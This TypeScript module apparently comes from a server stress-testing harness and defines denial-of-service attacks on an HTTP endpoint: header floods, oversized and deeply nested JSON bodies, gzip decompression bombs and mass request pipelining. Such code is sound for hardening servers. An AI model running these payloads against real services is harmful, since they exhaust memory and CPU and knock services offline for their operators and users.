/** Requests that are small for who sends them and large for who takes them. */

import { gzipSync } from 'node:zlib';
import { type Attacking, type Attacks, head, untilEnd } from '../target.ts';

const mebibyte = 1024 * 1024;
/** Above what is read as JSON. */
const hugeBytes = 32 * mebibyte;
/** Within it, and deeper than any stack. */
const deep = 3 * mebibyte;
/** Bytes of nothing, which are a thousandth as gzip. */
const bombBytes = 64 * mebibyte;
const pipelined = 20_000;
/** An answer to a large body comes late. */
const waitMs = 5_000;
const json = 'content-type: application/json';

const post = async (
  { wire, on }: Attacking,
  body: Uint8Array | string,
  more: readonly string[] = [],
): Promise<void> => {
  const request = head('POST', on.post, [json, ...more, `content-length: ${Buffer.byteLength(body)}`]);
  await wire.say(Buffer.concat([Buffer.from(request), Buffer.from(body)]), waitMs);
};

export const LARGE: Attacks = {
  'header-floods': {
    kinds: ['http'],
    run: async (attacking) => {
      const { wire, on } = attacking;
      const floods = [
        head('GET', on.get, [`x-long: ${'a'.repeat(mebibyte)}`]),
        head(
          'GET',
          on.get,
          Array.from({ length: 100_000 }, (_, i) => `x-${i}: a`),
        ),
        head(
          'GET',
          on.get,
          Array.from({ length: 10_000 }, () => 'cookie: a=b'),
        ),
        `GET ${'/a'.repeat(mebibyte)} HTTP/1.1\r\nhost: shoal\r\n\r\n`,
        `GET ${on.get} HTTP/1.1\r\n${'a'.repeat(mebibyte)}`,
        `${head('POST', on.post, [json, 'transfer-encoding: chunked'])}2;${'x'.repeat(mebibyte)}\r\n{}\r\n0\r\n\r\n`,
        head('POST', on.post, [json, 'transfer-encoding: chunked']) +
          `2\r\n{}\r\n0\r\n${'t: a\r\n'.repeat(100_000)}\r\n`,
      ];
      await untilEnd(attacking, async (round) => await wire.say(floods[round % floods.length] as string));
    },
  },
  'huge-json': {
    kinds: ['http'],
    run: async (attacking) => {
      const inner = `"${'a'.repeat(hugeBytes)}"`;
      const wide = `[${'0,'.repeat(3 * mebibyte)}0]`;
      const keys = `{${Array.from({ length: 400_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`;
      const bodies = [inner, wide, keys];
      await untilEnd(attacking, async (round) => await post(attacking, bodies[round % bodies.length] as string));
    },
  },
  'deep-json': {
    kinds: ['http'],
    run: async (attacking) => {
      const bodies = [
        '['.repeat(deep),
        `${'['.repeat(deep)}${']'.repeat(deep)}`,
        `${'{"a":'.repeat(mebibyte)}1${'}'.repeat(mebibyte)}`,
      ];
      await untilEnd(attacking, async (round) => await post(attacking, bodies[round % bodies.length] as string));
    },
  },
  bombs: {
    kinds: ['http'],
    run: async (attacking) => {
      const zipped = gzipSync(Buffer.alloc(bombBytes, ' '), { level: 9 });
      const encodings = ['gzip', 'x-gzip', 'gzip, gzip', 'deflate', 'br', 'zstd'];
      await untilEnd(attacking, async (round) => {
        await post(attacking, zipped, [`content-encoding: ${encodings[round % encodings.length]}`]);
      });
    },
  },
  pipelining: {
    kinds: ['http'],
    run: async (attacking) => {
      const { wire, on } = attacking;
      const all = head('GET', on.get).repeat(pipelined);
      await untilEnd(attacking, async (round) => {
        if (round % 2 === 0) return void (await wire.say(all));
        // Who takes none of the answers.
        const socket = await wire.open();
        socket?.pause();
        socket?.write(all);
        await wire.rest(waitMs / 5);
        socket?.destroy();
      });
    },
  },
};
